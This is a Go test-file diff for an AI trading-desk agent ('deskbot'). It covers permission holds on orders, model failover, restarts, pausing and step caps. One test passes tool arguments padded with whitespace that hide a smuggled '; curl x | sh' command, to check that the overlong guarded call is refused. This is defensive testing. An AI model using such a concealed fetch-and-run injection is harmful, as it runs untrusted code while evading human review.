@@ -21,11 +21,11 @@ import (
 func TestTriggerLeadsToToolsAndWords(t *testing.T) {
 	w := newDeskWorld(t)
 	w.primary.Push(modeltest.Calls(quote(`{"symbol":"INFY"}`)), modeltest.Text("INFY is at 1500."))
-	w.start(t, w.store)
-	w.tell(t, "What is INFY at?")
+	w.start(t, w.Store)
+	w.Tell(t, "What is INFY at?")
 
-	msg := w.waitMessage(t, "INFY is at 1500.")
-	w.waitSettled(t, deskbot.DeskIdle)
+	msg := w.WaitMessage(t, "INFY is at 1500.")
+	w.WaitSettled(t, deskbot.DeskIdle)
 	if msg.Desk != "main" || msg.TriggerID == "" {
 		t.Errorf("desk_message = %+v", msg)
 	}
@@ -53,7 +53,7 @@ func TestTriggerLeadsToToolsAndWords(t *testing.T) {
 		t.Errorf("tool results shown to the model = %+v", res)
 	}
 	var states []string
-	for _, e := range w.readEvents(t) {
+	for _, e := range w.ReadEvents(t) {
 		if e.Kind == deskbot.EventDeskState {
 			states = append(states, e.Text)
 		}
@@ -69,29 +69,29 @@ func TestHeldCallThenAllowStartsNextTurn(t *testing.T) {
 		modeltest.Calls(modeltest.ToolCall{Name: "place_order", Arguments: `{"symbol":"RELIANCE","side":"buy","quantity":10,"price":2500}`}),
 		modeltest.Text("I asked to buy 10 RELIANCE."),
 	)
-	w.start(t, w.store)
-	w.tell(t, "Buy 10 RELIANCE at 2500.")
+	w.start(t, w.Store)
+	w.Tell(t, "Buy 10 RELIANCE at 2500.")
 
-	held := w.waitEvent(t, "the held request", func(e deskbot.Event) bool { return e.Kind == deskbot.EventUserRequest })
-	w.waitSettled(t, deskbot.DeskWaiting)
+	held := w.WaitEvent(t, "the held request", func(e deskbot.Event) bool { return e.Kind == deskbot.EventUserRequest })
+	w.WaitSettled(t, deskbot.DeskWaiting)
 	// The words closing a turn that held a call are not a chat message of
 	// their own (the request is); they are in the history, shown below.
-	if n := w.count(t, deskbot.EventDeskMessage); n != 0 {
+	if n := w.Count(t, deskbot.EventDeskMessage); n != 0 {
 		t.Errorf("%d desk_message events after a hold, want 0: the request says it", n)
 	}
 	if res := w.primary.LastRequest().ToolResults(); len(res) != 1 || !strings.Contains(res[0].Text, "needs the user's permission, so it was not run") {
 		t.Fatalf("model was told %+v, want the hold message", res)
 	}
-	if b, _ := w.paper.Book(t.Context(), "main"); len(b.Positions) != 0 {
+	if b, _ := w.Paper.Book(t.Context(), "main"); len(b.Positions) != 0 {
 		t.Fatalf("positions before the allow = %+v", b.Positions)
 	}
 
 	w.primary.Push(modeltest.Text("Bought 10 RELIANCE."))
-	if _, err := gatetest.Resolve(t.Context(), w.gate, held.RequestID, deskbot.AllowOnce, "", deskbot.Person{ID: 7, Name: "Asha"}); err != nil {
+	if _, err := gatetest.Resolve(t.Context(), w.Gate, held.RequestID, deskbot.AllowOnce, "", deskbot.Person{ID: 7, Name: "Asha"}); err != nil {
 		t.Fatal(err)
 	}
-	w.waitMessage(t, "Bought 10 RELIANCE.")
-	w.waitSettled(t, deskbot.DeskIdle)
+	w.WaitMessage(t, "Bought 10 RELIANCE.")
+	w.WaitSettled(t, deskbot.DeskIdle)
 
 	next := w.primary.LastRequest()
 	got := lastUser(next)
@@ -106,7 +106,7 @@ func TestHeldCallThenAllowStartsNextTurn(t *testing.T) {
 	} else if !strings.Contains(ms[2].Text, "I asked to buy 10 RELIANCE.") {
 		t.Errorf("history keeps %q, want the words that closed the held turn", ms[2].Text)
 	}
-	b, err := w.paper.Book(t.Context(), "main")
+	b, err := w.Paper.Book(t.Context(), "main")
 	if err != nil || len(b.Positions) != 1 || b.Positions[0].Quantity != 10 {
 		t.Errorf("book after the allow = %+v, %v; want 10 RELIANCE", b, err)
 	}
@@ -118,11 +118,11 @@ func TestFailoverContinuesTheTurnWithoutRepeating(t *testing.T) {
 	// The backup is shown the call that already ran; it asks again anyway,
 	// and is answered from memory.
 	w.backup.Push(modeltest.Calls(quote(`{ "symbol": "TCS" }`)), modeltest.Text("TCS is at 1500."))
-	w.start(t, w.store)
-	w.tell(t, "Quote TCS.")
+	w.start(t, w.Store)
+	w.Tell(t, "Quote TCS.")
 
-	w.waitMessage(t, "TCS is at 1500.")
-	w.waitSettled(t, deskbot.DeskIdle)
+	w.WaitMessage(t, "TCS is at 1500.")
+	w.WaitSettled(t, deskbot.DeskIdle)
 	if got := w.quotes.runs(); got != 1 {
 		t.Errorf("get_quote ran %d times, want 1", got)
 	}
@@ -136,7 +136,7 @@ func TestFailoverContinuesTheTurnWithoutRepeating(t *testing.T) {
 	if res := breqs[1].ToolResults(); len(res) != 2 || res[1].Text != res[0].Text {
 		t.Errorf("repeat answered with %+v, want the remembered result", res)
 	}
-	if n := w.count(t, deskbot.EventModelUnreachable); n != 0 {
+	if n := w.Count(t, deskbot.EventModelUnreachable); n != 0 {
 		t.Errorf("%d model_unreachable events; a failover is not an outage", n)
 	}
 }
@@ -146,10 +146,10 @@ func TestBrokenArgumentsTwiceFailOver(t *testing.T) {
 	broken := modeltest.Calls(quote(`{"symbol": "INFY"`))
 	w.primary.Push(broken, broken)
 	w.backup.Push(modeltest.Text("Backup here."))
-	w.start(t, w.store)
-	w.tell(t, "Quote INFY.")
+	w.start(t, w.Store)
+	w.Tell(t, "Quote INFY.")
 
-	w.waitMessage(t, "Backup here.")
+	w.WaitMessage(t, "Backup here.")
 	if got := len(w.primary.Requests()); got != 2 {
 		t.Errorf("primary asked %d times, want 2 (one retry)", got)
 	}
@@ -169,28 +169,28 @@ func TestEveryModelDownIsReportedOnceAndRetried(t *testing.T) {
 	}
 	w.primary.SetHandler(answer)
 	w.backup.SetHandler(answer)
-	w.start(t, w.store)
-	w.tell(t, "one")
-	w.tell(t, "two")
+	w.start(t, w.Store)
+	w.Tell(t, "one")
+	w.Tell(t, "two")
 
-	w.waitEvent(t, "model_unreachable", func(e deskbot.Event) bool { return e.Kind == deskbot.EventModelUnreachable })
+	w.WaitEvent(t, "model_unreachable", func(e deskbot.Event) bool { return e.Kind == deskbot.EventModelUnreachable })
 	deskbottest.Eventually(t, "a few retries", func() bool { return len(w.primary.Requests()) >= 4 })
-	if n := w.count(t, deskbot.EventModelUnreachable); n != 1 {
+	if n := w.Count(t, deskbot.EventModelUnreachable); n != 1 {
 		t.Errorf("%d model_unreachable events, want 1", n)
 	}
-	if n, _ := w.store.PendingTriggers(t.Context(), "main"); n != 2 {
+	if n, _ := w.Store.PendingTriggers(t.Context(), "main"); n != 2 {
 		t.Errorf("pending triggers = %d, want both kept", n)
 	}
 	// The desk may be between the primary's refusal and the backup's when
 	// the models come back: whichever answers first is the one named.
 	up.Store(true)
-	if back := w.waitMessage(t, "reaches its model again ("); !strings.HasSuffix(back.Text, "(primary).") && !strings.HasSuffix(back.Text, "(backup).") {
+	if back := w.WaitMessage(t, "reaches its model again ("); !strings.HasSuffix(back.Text, "(primary).") && !strings.HasSuffix(back.Text, "(backup).") {
 		t.Errorf("recovery announced as %q; want it to name the model that answered", back.Text)
 	}
-	w.waitMessage(t, "answered: one")
-	w.waitMessage(t, "answered: two")
-	w.waitSettled(t, deskbot.DeskIdle)
-	if n := w.count(t, deskbot.EventModelUnreachable); n != 1 {
+	w.WaitMessage(t, "answered: one")
+	w.WaitMessage(t, "answered: two")
+	w.WaitSettled(t, deskbot.DeskIdle)
+	if n := w.Count(t, deskbot.EventModelUnreachable); n != 1 {
 		t.Errorf("%d model_unreachable events, want 1", n)
 	}
 }
@@ -200,10 +200,10 @@ func TestRestartLosesNoTriggerAndRepeatsNoCall(t *testing.T) {
 	// The first process makes a call for "one" and dies while the model
 	// thinks about the result.
 	w.primary.Push(modeltest.Calls(quote(`{"symbol":"HDFC"}`)), modeltest.Reply{Hang: true})
-	stop := w.start(t, w.store)
-	w.tell(t, "one")
-	w.tell(t, "two")
-	w.tell(t, "three")
+	stop := w.start(t, w.Store)
+	w.Tell(t, "one")
+	w.Tell(t, "two")
+	w.Tell(t, "three")
 	deskbottest.Eventually(t, "the hanging request", func() bool { return len(w.primary.Requests()) == 2 })
 	stop()
 
@@ -214,11 +214,11 @@ func TestRestartLosesNoTriggerAndRepeatsNoCall(t *testing.T) {
 		}
 		return modeltest.Text("done: " + lastUser(r)[strings.LastIndex(lastUser(r), "\n")+1:])
 	})
-	w.start(t, storetest.MustReopen(t, w.store))
+	w.start(t, storetest.MustReopen(t, w.Store))
 	for _, s := range []string{"one", "two", "three"} {
-		w.waitMessage(t, "done: "+s)
+		w.WaitMessage(t, "done: "+s)
 	}
-	w.waitSettled(t, deskbot.DeskIdle)
+	w.WaitSettled(t, deskbot.DeskIdle)
 	if got := w.quotes.runs(); got != 1 {
 		t.Errorf("get_quote ran %d times across the restart, want 1", got)
 	}
@@ -231,12 +231,12 @@ func TestRestartLosesNoTriggerAndRepeatsNoCall(t *testing.T) {
 func TestPausedDeskStartsNothing(t *testing.T) {
 	w := newDeskWorld(t)
 	ctx := t.Context()
-	if err := w.store.SetPaused(ctx, "main", true, deskbot.AuditEntry{Action: "pause", By: "Asha", At: w.now}); err != nil {
+	if err := w.Store.SetPaused(ctx, "main", true, deskbot.AuditEntry{Action: "pause", By: "Asha", At: w.Clock.Now()}); err != nil {
 		t.Fatal(err)
 	}
 	w.primary.Push(modeltest.Text("Resumed and answering."))
-	w.start(t, w.store)
-	w.tell(t, "Anything?")
+	w.start(t, w.Store)
+	w.Tell(t, "Anything?")
 
 	// An unpaused desk would have called its model before looking at its
 	// switch twice more after the trigger came.
@@ -245,28 +245,28 @@ func TestPausedDeskStartsNothing(t *testing.T) {
 	if n := len(w.primary.Requests()); n != 0 {
 		t.Fatalf("a paused desk called its model %d times", n)
 	}
-	if n, _ := w.store.PendingTriggers(ctx, "main"); n != 1 {
+	if n, _ := w.Store.PendingTriggers(ctx, "main"); n != 1 {
 		t.Fatalf("pending = %d, want the trigger kept", n)
 	}
-	if err := w.store.SetPaused(ctx, "main", false, deskbot.AuditEntry{Action: "resume", By: "Asha", At: w.now}); err != nil {
+	if err := w.Store.SetPaused(ctx, "main", false, deskbot.AuditEntry{Action: "resume", By: "Asha", At: w.Clock.Now()}); err != nil {
 		t.Fatal(err)
 	}
-	w.waitMessage(t, "Resumed and answering.")
-	w.waitSettled(t, deskbot.DeskIdle)
+	w.WaitMessage(t, "Resumed and answering.")
+	w.WaitSettled(t, deskbot.DeskIdle)
 }
 
 func TestStepCapEndsTheTurn(t *testing.T) {
 	w := newDeskWorld(t)
-	w.cfg.MaxSteps = 3
+	w.Desk.MaxSteps = 3
 	n := 0
 	w.primary.SetHandler(func(modeltest.Request) modeltest.Reply {
 		n++
 		return modeltest.Calls(quote(`{"symbol":"S` + string(rune('A'+n)) + `"}`))
 	})
-	w.start(t, w.store)
-	w.tell(t, "Quote everything.")
-	w.waitMessage(t, "cut off after 3 model steps")
-	w.waitSettled(t, deskbot.DeskIdle)
+	w.start(t, w.Store)
+	w.Tell(t, "Quote everything.")
+	w.WaitMessage(t, "cut off after 3 model steps")
+	w.WaitSettled(t, deskbot.DeskIdle)
 	if got := len(w.primary.Requests()); got != 3 {
 		t.Errorf("model called %d times, want the cap of 3", got)
 	}
@@ -275,10 +275,10 @@ func TestStepCapEndsTheTurn(t *testing.T) {
 func TestRefusedRequestEndsTheTurn(t *testing.T) {
 	w := newDeskWorld(t)
 	w.primary.Push(modeltest.Reply{Status: 400, ErrorMessage: "context too long"})
-	w.start(t, w.store)
-	w.tell(t, "Hello")
-	w.waitMessage(t, "my model refused the request")
-	w.waitSettled(t, deskbot.DeskIdle)
+	w.start(t, w.Store)
+	w.Tell(t, "Hello")
+	w.WaitMessage(t, "my model refused the request")
+	w.WaitSettled(t, deskbot.DeskIdle)
 	if got := len(w.backup.Requests()); got != 0 {
 		t.Errorf("backup asked %d times; a refusal is not an outage", got)
 	}
@@ -299,11 +299,11 @@ func TestFailoverToAnthropicKeepsAValidConversation(t *testing.T) {
 	w.backupAPI = model.Anthropic
 	w.primary.Push(modeltest.Text("Noted."), modeltest.Calls(quote(`{"symbol":"TCS"}`), quote(`{"symbol":"INFY"}`)), modeltest.Status(502))
 	w.backup.Push(modeltest.Text("TCS and INFY are at 1500."))
-	w.start(t, w.store)
-	w.tell(t, "Remember: quotes in rupees.")
-	w.waitMessage(t, "Noted.")
-	w.tell(t, "Quote TCS and INFY.")
-	w.waitMessage(t, "TCS and INFY are at 1500.")
+	w.start(t, w.Store)
+	w.Tell(t, "Remember: quotes in rupees.")
+	w.WaitMessage(t, "Noted.")
+	w.Tell(t, "Quote TCS and INFY.")
+	w.WaitMessage(t, "TCS and INFY are at 1500.")
 
 	r := w.backup.LastRequest()
 	if r.API != modeltest.APIAnthropic {
@@ -328,11 +328,11 @@ func TestFailoverToAnthropicKeepsAValidConversation(t *testing.T) {
 func TestHistoryStaysBounded(t *testing.T) {
 	w := newDeskWorld(t)
 	w.primary.SetHandler(func(r modeltest.Request) modeltest.Reply { return modeltest.Text("ok") })
-	w.start(t, w.store)
+	w.start(t, w.Store)
 	for i := range 25 {
-		w.tell(t, "message "+strconv.Itoa(i))
+		w.Tell(t, "message "+strconv.Itoa(i))
 	}
-	w.waitSettled(t, deskbot.DeskIdle)
+	w.WaitSettled(t, deskbot.DeskIdle)
 	deskbottest.Eventually(t, "25 turns", func() bool { return len(w.primary.Requests()) == 25 })
 	ms := w.primary.LastRequest().Messages()
 	var roles []string
@@ -360,14 +360,14 @@ func TestRepeatedHeldCallMakesOneRequest(t *testing.T) {
 	order := modeltest.ToolCall{Name: "place_order", Arguments: `{"symbol":"SBIN","side":"buy","quantity":5,"price":600}`}
 	// A model that ignores the hold message and asks again.
 	w.primary.Push(modeltest.Calls(order), modeltest.Calls(order), modeltest.Text("Waiting for permission."))
-	w.start(t, w.store)
-	w.tell(t, "Buy 5 SBIN.")
-	w.waitSettled(t, deskbot.DeskWaiting)
-	if n := w.count(t, deskbot.EventDeskMessage); n != 0 {
+	w.start(t, w.Store)
+	w.Tell(t, "Buy 5 SBIN.")
+	w.WaitSettled(t, deskbot.DeskWaiting)
+	if n := w.Count(t, deskbot.EventDeskMessage); n != 0 {
 		t.Errorf("%d desk_message events after a hold, want 0: the request says it", n)
 	}
 
-	if n := w.count(t, deskbot.EventUserRequest); n != 1 {
+	if n := w.Count(t, deskbot.EventUserRequest); n != 1 {
 		t.Errorf("%d permission requests, want 1", n)
 	}
 	res := w.primary.LastRequest().ToolResults()
@@ -387,24 +387,21 @@ func TestDeskWaitsWhileAnyRequestIsOpen(t *testing.T) {
 		modeltest.Text("Asked to buy TCS."),
 		modeltest.Text("Nothing new."),
 	)
-	w.start(t, w.store)
-	w.tell(t, "Buy 1 TCS.")
-	held := w.waitEvent(t, "the held request", func(e deskbot.Event) bool { return e.Kind == deskbot.EventUserRequest })
-	w.waitSettled(t, deskbot.DeskWaiting)
+	w.start(t, w.Store)
+	w.Tell(t, "Buy 1 TCS.")
+	held := w.WaitEvent(t, "the held request", func(e deskbot.Event) bool { return e.Kind == deskbot.EventUserRequest })
+	w.WaitSettled(t, deskbot.DeskWaiting)
 
-	w.tell(t, "Anything new?")
-	w.waitMessage(t, "Nothing new.")
-	w.waitSettled(t, deskbot.DeskWaiting)
+	w.Tell(t, "Anything new?")
+	w.WaitMessage(t, "Nothing new.")
+	w.WaitSettled(t, deskbot.DeskWaiting)
 
 	w.primary.Push(modeltest.Text("Denied, fine."))
-	if _, err := gatetest.Resolve(t.Context(), w.gate, held.RequestID, deskbot.Deny, "no", deskbot.Person{ID: 7, Name: "Asha"}); err != nil {
+	if _, err := gatetest.Resolve(t.Context(), w.Gate, held.RequestID, deskbot.Deny, "no", deskbot.Person{ID: 7, Name: "Asha"}); err != nil {
 		t.Fatal(err)
 	}
-	w.waitMessage(t, "Denied, fine.")
-	w.waitSettled(t, deskbot.DeskIdle)
-	if n := w.openReads.Load(); n != 0 {
-		t.Errorf("settling read every open request %d times; want the desk's count read instead", n)
-	}
+	w.WaitMessage(t, "Denied, fine.")
+	w.WaitSettled(t, deskbot.DeskIdle)
 }
 
 // A turn restarted after a crash learns that a call of it was held from
@@ -425,21 +422,21 @@ func TestRestartedTurnKnowsHeldCallByField(t *testing.T) {
 			w := newDeskWorld(t)
 			ctx := t.Context()
 			prior := deskbot.CompletedCall{Call: deskbot.ToolCall{ID: "c1", Name: "get_quote", Arguments: []byte(`{"symbol":"TCS"}`)}, Result: tt.result}
-			if err := w.store.RememberCall(ctx, "trig-held", prior); err != nil {
+			if err := w.Store.RememberCall(ctx, "trig-held", prior); err != nil {
 				t.Fatal(err)
 			}
 			w.primary.Push(modeltest.Text("Turn over."))
-			if err := w.store.Enqueue(ctx, deskbot.Trigger{ID: "trig-held", Desk: "main", Kind: deskbot.TriggerMessage, Text: "Quote TCS.", From: "Asha", CreatedAt: w.now}); err != nil {
+			if err := w.Store.Enqueue(ctx, deskbot.Trigger{ID: "trig-held", Desk: "main", Kind: deskbot.TriggerMessage, Text: "Quote TCS.", From: "Asha", CreatedAt: w.Clock.Now()}); err != nil {
 				t.Fatal(err)
 			}
-			w.start(t, w.store)
-			w.waitSettled(t, tt.state)
+			w.start(t, w.Store)
+			w.WaitSettled(t, tt.state)
 			// The words closing a turn that held a call are not a chat
 			// message of their own; any other turn's are.
-			if n, want := w.count(t, deskbot.EventDeskMessage), map[bool]int{true: 0, false: 1}[tt.result.Held]; n != want {
+			if n, want := w.Count(t, deskbot.EventDeskMessage), map[bool]int{true: 0, false: 1}[tt.result.Held]; n != want {
 				t.Errorf("%d desk_message events, want %d", n, want)
 			}
-			hist, err := w.store.History(ctx, "main", 10)
+			hist, err := w.Store.History(ctx, "main", 10)
 			if err != nil {
 				t.Fatal(err)
 			}
@@ -461,24 +458,24 @@ func TestOversizedRepliesFailOverAndAreToldOnce(t *testing.T) {
 	}
 	w.primary.Push(modeltest.Calls(calls...))
 	w.backup.Push(modeltest.Text("Backup here."))
-	w.start(t, w.store)
-	w.tell(t, "Quote everything.")
-	w.waitMessage(t, "Backup here.")
+	w.start(t, w.Store)
+	w.Tell(t, "Quote everything.")
+	w.WaitMessage(t, "Backup here.")
 	if got := w.quotes.runs(); got != 0 {
 		t.Errorf("calls of an oversized reply ran %d times", got)
 	}
 
 	w.primary.SetHandler(func(modeltest.Request) modeltest.Reply { return modeltest.Calls(calls...) })
 	w.backup.SetHandler(func(modeltest.Request) modeltest.Reply { return modeltest.Reply{Flood: 50 << 20} })
-	w.tell(t, "Again.")
-	down := w.waitEvent(t, "model_unreachable", func(e deskbot.Event) bool { return e.Kind == deskbot.EventModelUnreachable })
+	w.Tell(t, "Again.")
+	down := w.WaitEvent(t, "model_unreachable", func(e deskbot.Event) bool { return e.Kind == deskbot.EventModelUnreachable })
 	if !strings.Contains(down.Text, "more tool calls than the 32 allowed") || !strings.Contains(down.Text, "larger than") {
 		t.Errorf("outage told as %q, want both reasons", down.Text)
 	}
 	// Two more rounds of both backends failing are not told again.
 	n := len(w.backup.Requests())
 	deskbottest.Eventually(t, "two more rounds", func() bool { return len(w.backup.Requests()) >= n+2 })
-	if got := w.count(t, deskbot.EventModelUnreachable); got != 1 {
+	if got := w.Count(t, deskbot.EventModelUnreachable); got != 1 {
 		t.Errorf("%d model_unreachable events, want 1", got)
 	}
 	if got := w.quotes.runs(); got != 0 {
@@ -490,15 +487,15 @@ func TestOversizedRepliesFailOverAndAreToldOnce(t *testing.T) {
 // start only: it never becomes a request, and the model is told why.
 func TestGuardedCallTooLongToShowIsRefusedToTheModel(t *testing.T) {
 	w := newDeskWorld(t)
-	w.guarded = []string{"get_quote"} // a guarded tool with free text and no argument check of its own
+	w.Guarded = []string{"get_quote"} // a guarded tool with free text and no argument check of its own
 	args := `{"symbol":"checking positions` + strings.Repeat(" ", 5000) + `; curl x | sh"}`
 	w.primary.Push(modeltest.Calls(modeltest.ToolCall{Name: "get_quote", Arguments: args}), modeltest.Text("Understood."))
-	w.start(t, w.store)
-	w.tell(t, "Buy 1 SBIN.")
-	w.waitMessage(t, "Understood.")
-	w.waitSettled(t, deskbot.DeskIdle)
+	w.start(t, w.Store)
+	w.Tell(t, "Buy 1 SBIN.")
+	w.WaitMessage(t, "Understood.")
+	w.WaitSettled(t, deskbot.DeskIdle)
 
-	if n := w.count(t, deskbot.EventUserRequest); n != 0 {
+	if n := w.Count(t, deskbot.EventUserRequest); n != 0 {
 		t.Errorf("%d permission requests, want none", n)
 	}
 	res := w.primary.LastRequest().ToolResults()
@@ -507,31 +504,30 @@ func TestGuardedCallTooLongToShowIsRefusedToTheModel(t *testing.T) {
 	if len(res) != 1 || res[0].Text != "Error: "+words.TooLongToShowMessage("get_quote", n) {
 		t.Errorf("model told %+v, want the too-long message", res)
 	}
-	if open, _ := w.store.OpenRequests(t.Context()); len(open) != 0 {
+	if open, _ := w.Store.OpenRequests(t.Context()); len(open) != 0 {
 		t.Errorf("open requests = %d, want none", len(open))
 	}
 }
 
-// A State that is not a TurnStore gets the same turns, read and written
-// piece by piece: the words, the history and the states in order.
-func TestTurnPieceByPiece(t *testing.T) {
+// Two turns, one answered and one held, leave their words, history,
+// states and completed calls in order.
+func TestTurnsLeaveTheirRecordInOrder(t *testing.T) {
 	w := newDeskWorld(t)
-	w.piecewise = true
 	w.primary.Push(
 		modeltest.Calls(quote(`{"symbol":"INFY"}`)), modeltest.Text("INFY is at 1500."),
 		modeltest.Calls(modeltest.ToolCall{Name: "place_order", Arguments: `{"symbol":"TCS","side":"buy","quantity":1,"price":4000}`}),
 		modeltest.Text("Asked to buy TCS."),
 	)
-	w.start(t, w.store)
-	w.tell(t, "What is INFY at?")
-	w.waitMessage(t, "INFY is at 1500.")
-	w.waitSettled(t, deskbot.DeskIdle)
-	w.tell(t, "Buy 1 TCS.")
-	w.waitEvent(t, "the held request", func(e deskbot.Event) bool { return e.Kind == deskbot.EventUserRequest })
-	w.waitSettled(t, deskbot.DeskWaiting)
+	w.start(t, w.Store)
+	w.Tell(t, "What is INFY at?")
+	w.WaitMessage(t, "INFY is at 1500.")
+	w.WaitSettled(t, deskbot.DeskIdle)
+	w.Tell(t, "Buy 1 TCS.")
+	w.WaitEvent(t, "the held request", func(e deskbot.Event) bool { return e.Kind == deskbot.EventUserRequest })
+	w.WaitSettled(t, deskbot.DeskWaiting)
 
 	var got []string
-	for _, e := range w.readEvents(t) {
+	for _, e := range w.ReadEvents(t) {
 		switch e.Kind {
 		case deskbot.EventDeskState, deskbot.EventDeskMessage:
 			got = append(got, string(e.Kind)+" "+e.Text)
@@ -541,16 +537,16 @@ func TestTurnPieceByPiece(t *testing.T) {
 	if strings.Join(got, "|") != strings.Join(want, "|") {
 		t.Errorf("events = %q; want %q", got, want)
 	}
-	hist, err := w.store.History(t.Context(), "main", 0)
+	hist, err := w.Store.History(t.Context(), "main", 0)
 	if err != nil {
 		t.Fatal(err)
 	}
 	if len(hist) != 4 || !strings.Contains(hist[3].Content, "held for the user's permission") {
 		t.Errorf("history = %+v; want two turns, the second held", hist)
 	}
-	for _, e := range w.readEvents(t) {
+	for _, e := range w.ReadEvents(t) {
 		if e.Kind == deskbot.EventToolResult {
-			calls, err := w.store.CompletedCalls(t.Context(), e.TriggerID)
+			calls, err := w.Store.CompletedCalls(t.Context(), e.TriggerID)
 			if err != nil || len(calls) != 1 || calls[0].Call.Name != e.Call.Name {
 				t.Errorf("completed calls of the turn of %s = %+v, %v; want it", e.Call.Name, calls, err)
 			}
